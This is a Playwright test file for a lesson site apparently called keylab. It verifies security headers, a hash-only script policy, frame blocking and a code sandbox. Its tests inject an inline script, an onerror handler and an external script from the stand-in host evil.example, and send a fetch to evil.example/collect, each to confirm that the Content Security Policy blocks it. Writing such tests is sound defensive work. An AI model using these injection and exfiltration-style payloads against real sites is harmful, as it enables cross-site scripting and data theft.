import { expect, test } from '@playwright/test';
import { securityHeaders } from '../../src/headers.ts';
import { recordViolations, violations } from './support/csp.ts';
import { runOnceCleanly } from './support/sandbox.ts';

const LESSON = '/start/what-is-an-api-key/';
const SANDBOX_LESSON = '/using/first-call/?engine=worker';
const HOSTILE = 'https://evil.example';

test.beforeEach(async ({ page }) => {
	await recordViolations(page);
	// Other hosts answer, so only the CSP can stop a request to them (the machine is offline).
	await page.route(`${HOSTILE}/**`, (route) =>
		route.fulfill({
			status: 200,
			headers: { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' },
			body: "window.__injected = 'external';",
		}),
	);
});

test('pages and assets carry every security header, and built pages a hash-only script policy', async ({
	page,
	request,
}) => {
	const response = await page.goto(LESSON);
	const headers = response?.headers() ?? {};
	for (const [name, value] of Object.entries(securityHeaders))
		expect(headers[name.toLowerCase()], name).toBe(value);
	const script = await page.locator('script[src]').first().getAttribute('src');
	const asset = await request.get(script ?? '/favicon.svg');
	expect(asset.headers()['content-security-policy']).toBe(
		securityHeaders['Content-Security-Policy'],
	);
	const meta = await page
		.locator('meta[http-equiv="content-security-policy"]')
		.getAttribute('content');
	const scriptSrc = /script-src ([^;]*)/.exec(meta ?? '')?.[1] ?? '';
	expect(scriptSrc).toContain("'sha256-");
	expect(scriptSrc).not.toContain("'unsafe-inline'");
	expect(
		await page.evaluate(
			() => typeof (window as { StarlightThemeProvider?: unknown }).StarlightThemeProvider,
		),
	).toBe('object');
	expect(await violations(page)).toEqual([]);
});

test('a script injected into lesson content cannot run', async ({ page }) => {
	await page.route(`**${LESSON}`, async (route) => {
		const response = await route.fetch();
		const html = (await response.text()).replace(
			'<div class="sl-markdown-content">',
			`<div class="sl-markdown-content">
				<script>window.__injected = 'inline';</script>
				<img src="/no-such-image.png" alt="" onerror="window.__injected = 'handler'">
				<script src="${HOSTILE}/x.js"></script>`,
		);
		expect(html, 'the lesson body was found').toContain('/no-such-image.png');
		await route.fulfill({ response, body: html });
	});
	await page.goto(LESSON);
	await expect.poll(async () => (await violations(page)).length).toBeGreaterThanOrEqual(3);
	expect(await page.evaluate(() => (window as { __injected?: string }).__injected)).toBeUndefined();
	// Both policies (header and meta) report each block, so compare the distinct blocks.
	const blocked = new Set((await violations(page)).map((v) => `${v.directive} ${v.blockedURI}`));
	expect([...blocked].sort()).toEqual([
		'script-src-attr inline',
		`script-src-elem ${HOSTILE}/x.js`,
		'script-src-elem inline',
	]);
	// The site's own inline scripts still ran.
	expect(
		await page.evaluate(
			() => typeof (window as { StarlightThemeProvider?: unknown }).StarlightThemeProvider,
		),
	).toBe('object');
});

test('a request to another host is blocked; api.openai.com is allowed', async ({ page }) => {
	await page.route('https://api.openai.com/**', (route) =>
		route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: '{}' }),
	);
	await page.goto(LESSON);
	const results = await page.evaluate(async (hostile) => {
		const attempt = (url: string) =>
			fetch(url).then(
				(response) => `ok ${response.status}`,
				() => 'blocked',
			);
		return {
			hostile: await attempt(`${hostile}/collect`),
			openai: await attempt('https://api.openai.com/v1/models'),
		};
	}, HOSTILE);
	expect(results).toEqual({ hostile: 'blocked', openai: 'ok 200' });
	const blocked = new Set((await violations(page)).map((v) => `${v.directive} ${v.blockedURI}`));
	expect([...blocked]).toEqual([`connect-src ${HOSTILE}/collect`]);
});

test('another site cannot frame keylab', async ({ page, baseURL }) => {
	// localhost and 127.0.0.1 are different sites to the browser; no public host is needed.
	const framer = `${baseURL?.replace('127.0.0.1', 'localhost')}/framer.html`;
	await page.route(framer, (route) =>
		route.fulfill({
			contentType: 'text/html',
			body: `<iframe src="${baseURL}${LESSON}" title="keylab"></iframe>`,
		}),
	);
	await page.goto(framer);
	// Chromium replaces a refused frame with its error page.
	await expect
		.poll(() =>
			page
				.frames()
				.find((frame) => frame !== page.mainFrame())
				?.url(),
		)
		.toMatch(/^chrome-error:/);
});

test('the sandbox runs in practice mode and Monaco loads under the policy', async ({ page }) => {
	const cspErrors: string[] = [];
	page.on('console', (message) => {
		if (/Content Security Policy/i.test(message.text())) cspErrors.push(message.text());
	});
	await page.goto(SANDBOX_LESSON);
	await runOnceCleanly(page);
	const sandbox = page.locator('keylab-sandbox').first();

	await sandbox.getByRole('tabpanel').locator('pre').first().click();
	await expect(sandbox).toHaveAttribute('data-editor', 'ready', { timeout: 60_000 });
	await expect(sandbox.locator('.monaco-editor')).toBeVisible();
	expect(await violations(page)).toEqual([]);
	expect(cspErrors).toEqual([]);
});
